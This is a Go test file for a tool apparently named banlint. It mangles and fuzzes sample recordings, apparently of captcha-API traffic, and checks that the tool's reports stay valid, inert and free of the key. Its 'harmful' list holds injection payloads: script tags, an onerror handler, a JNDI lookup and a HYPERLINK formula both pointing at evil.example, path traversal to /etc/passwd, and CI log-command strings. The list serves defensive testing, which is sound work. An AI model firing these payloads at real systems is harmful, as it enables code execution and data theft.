package main

import (
	"bytes"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// harmful are words that do something where a report is read, or that a reader may stumble over.
var harmful = []string{
	"\x1b[31m", "\x1b]0;title\x07", "\u009b2J", "\u202egnp.exe", "\u2066", "\ufeff", "\x00", "\xff\xfe", "\xc3", "\r", "\n", "\r\n\r\n", "\n::error file=a.go::" + harm, "##[error]" + harm, "##vso[task.complete]",
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "=HYPERLINK(\"http://evil.example\")", "]]>", "&lol;", "{{7*7}}", "%s%n", "${jndi:ldap://evil.example}",
	"../../../../etc/passwd", "file:///etc/passwd", "1e999", "-1", "NaN", "00", "99999999999999999999", "\\u0000", "\\ud800", "%00", "%zz", "\"", "'", "\\", "{", "}", "[", "]", ",", ":", "=", "&",
	`"clientKey":"","clientKey":"x",`, `"time":"0000-00-00T00:00:00Z",`, `"status":1e400,`, "ERROR_ZERO_BALANCE", "HTTP/1.1 ", "POST ", "https://", "https://[::1%25]]:99999/", "api.capmonster.cloud@evil.example",
}

// harm is a word that no report says.
const harm = "pwned"

// spoilings are the ways in which recordings are broken, or made up to do harm. Each is to keep
// what a recording is recognised by now and then, so that its reader has something to read.
var spoilings = []struct {
	name  string
	spoil func(r *rand.Rand, text string) string
}{
	{"bytes are others", func(r *rand.Rand, text string) string {
		b := []byte(text)
		for range 1 + r.IntN(8) {
			b[r.IntN(len(b))] = byte(r.Uint32())
		}
		return string(b)
	}},
	{"words are put in", func(r *rand.Rand, text string) string {
		for range 1 + r.IntN(6) {
			at := r.IntN(len(text))
			text = text[:at] + pickOf(r, harmful...) + text[at:]
		}
		return text
	}},
	{"words stand in the place of others", func(r *rand.Rand, text string) string {
		for range 1 + r.IntN(6) {
			text = strings.Replace(text, pickOf(r, wordsOf.FindAllString(text, -1)...), pickOf(r, harmful...), 1+r.IntN(4))
		}
		return text
	}},
	{"lengths are kept", func(r *rand.Rand, text string) string { // where they are told before what is that long
		b := []byte(text)
		for range 1 + r.IntN(6) {
			copy(b[r.IntN(len(b)):], pickOf(r, harmful...))
		}
		return string(b)
	}},
	{"a piece is gone", func(r *rand.Rand, text string) string {
		from, to := piece(r, text)
		return text[:from] + text[to:]
	}},
	{"a piece is there twice", func(r *rand.Rand, text string) string {
		from, to := piece(r, text)
		return text[:to] + text[from:]
	}},
	{"it is nested deeply", func(r *rand.Rand, text string) string {
		at := r.IntN(len(text))
		return text[:at] + strings.Repeat(pickOf(r, "[", `{"a":`, "<a>", "- - ", "(", "1:"), 30_000) + text[at:]
	}},
	{"a word is long", func(r *rand.Rand, text string) string {
		at := r.IntN(len(text))
		return text[:at] + strings.Repeat(pickOf(r, "x", "9", "\x00", " ", `\u0041`, "é"), 200_000) + text[at:]
	}},
	{"there is much of it", func(r *rand.Rand, text string) string {
		from, to := piece(r, text)
		return text[:from] + strings.Repeat(text[from:to], 1+100_000/(to-from)) + text[to:]
	}},
	{"lines end in another way", func(r *rand.Rand, text string) string {
		return strings.ReplaceAll(text, "\n", pickOf(r, "\r\n", "\r", "\n\n", "\u2028", "\x00"))
	}},
	{"it begins in another way", func(r *rand.Rand, text string) string {
		return pickOf(r, "\ufeff", "\xff\xfe", "\n\n\n", "\x00\x00", "PK\x03\x04", "\x1f\x8b\x08", "\xd4\xc3\xb2\xa1", "<?xml?>", "#Fields: time\n", "{}\n", "[]\n") + text
	}},
	{"it is packed once more", func(r *rand.Rand, text string) string {
		return pickOf(r, gzipped(text), gzipped(gzipped(text)), archived("../../\x1b[2J<b>", text), archived("a", text, "a", text), archived("a.zip", archived("b", text)), archived("a.gz", gzipped(text)[:len(gzipped(text))/2]))
	}},
}

var wordsOf = regexp.MustCompile(`[\w.-]+`)

// piece is a place in a text, of a byte at least.
func piece(r *rand.Rand, text string) (from, to int) {
	from = r.IntN(len(text))
	return from, from + 1 + r.IntN(len(text)-from)
}

// valid holds, by the name of a format, what must hold of each report in it.
func valid(t *testing.T, format string, text []byte) {
	t.Helper()
	for _, g := range goldens {
		if g.format == format {
			g.check(t, text)
		}
	}
}

// TestSpoiled reads every control spoiled in every way. No reader may fail, the report must be
// whole, and neither it nor what redact writes may hold a key or what does harm. One form of report
// is tried on each, at night all of them.
func TestSpoiled(t *testing.T) {
	notRaced(t)
	rounds := 1
	if nightly {
		rounds = 40
	}
	forms := outputNames()
	for i, c := range controls(t) {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			path := filepath.Join(t.TempDir(), "spoiled")
			for k, s := range spoilings {
				for round := range rounds {
					seed := uint64(1000*i + 50*k + round)
					if err := os.WriteFile(path, []byte(s.spoil(rand.New(rand.NewPCG(seed, 11)), c.text)), 0o600); err != nil {
						t.Fatal(err)
					}
					form := forms[(i+k+round)%len(forms)]
					var stdout, stderr bytes.Buffer
					code := run([]string{"check", "--no-config", "-f", form, path}, &stdout, &stderr)
					switch {
					case code == exitUsage && stdout.Len() == 0 && stderr.Len() > 0: // it is not what it was any longer
					case code == exitFine, code == exitFindings, code == exitUnjudged:
						valid(t, form, stdout.Bytes())
					default:
						t.Errorf("exit status %d: %s", code, stderr.String())
					}
					harmless(t, stdout.String()+stderr.String())

					stdout.Reset()
					stderr.Reset()
					run([]string{"redact", "--no-config", path}, &stdout, &stderr)
					harmless(t, stderr.String())
					secretless(t, stdout.String())
					if t.Failed() {
						t.Fatalf("%s, seed %d, -f %s", s.name, seed, form)
					}
				}
			}
		})
	}
}

// harmless holds that a text does nothing where it is read.
func harmless(t *testing.T, text string) {
	t.Helper()
	for _, word := range []string{"fault of banlint", harm, "<script>alert", "onerror=", "javascript:", "##[", "##vso"} {
		if i := strings.Index(text, word); i >= 0 {
			t.Errorf("%q was printed: …%s", word, text[max(0, i-80):i+len(word)])
		}
	}
	if i := strings.IndexFunc(text, unprintable); i >= 0 {
		t.Errorf("%q was printed", text[i:min(len(text), i+20)])
	}
	secretless(t, text)
}

// unprintable reports whether a terminal does something else with a character than show it.
func unprintable(c rune) bool {
	return c < ' ' && c != '\n' && c != '\t' || 0x7f <= c && c < 0xa0 || slices.Contains([]rune{'\u061c', '\u200e', '\u200f', '\ufeff'}, c) || '\u202a' <= c && c <= '\u202e' || '\u2066' <= c && c <= '\u2069'
}

// secretless holds that nothing of the controls' key is in a text, neither ten of its letters.
func secretless(t *testing.T, text string) {
	t.Helper()
	for i := range len(controlKey) - 10 {
		if at := strings.Index(text, controlKey[i:i+10]); at >= 0 {
			t.Errorf("of a key was printed: …%s", text[max(0, at-80):at+10])
			return
		}
	}
}

// FuzzCheck lets the program read what comes to mind, in every form of report and redacted.
func FuzzCheck(f *testing.F) {
	for i, c := range controls(f) {
		f.Add([]byte(c.text), uint8(i))
	}
	forms := outputNames()
	f.Fuzz(func(t *testing.T, text []byte, form uint8) {
		path := filepath.Join(t.TempDir(), "fuzzed")
		if err := os.WriteFile(path, text, 0o600); err != nil {
			t.Fatal(err)
		}
		for _, args := range [][]string{{"check", "-f", forms[int(form)%len(forms)]}, {"redact"}} {
			var stdout, stderr bytes.Buffer
			code := run(append(args, "--no-config", path), &stdout, &stderr)
			said := stderr.String()
			if args[0] == "check" {
				said += stdout.String()
				if code != exitUsage {
					valid(t, args[2], stdout.Bytes())
				}
			}
			if code > exitUnjudged || strings.Contains(said, "fault of banlint") || strings.ContainsFunc(said, unprintable) {
				t.Errorf("exit status %d: %q", code, said)
			}
		}
	})
}
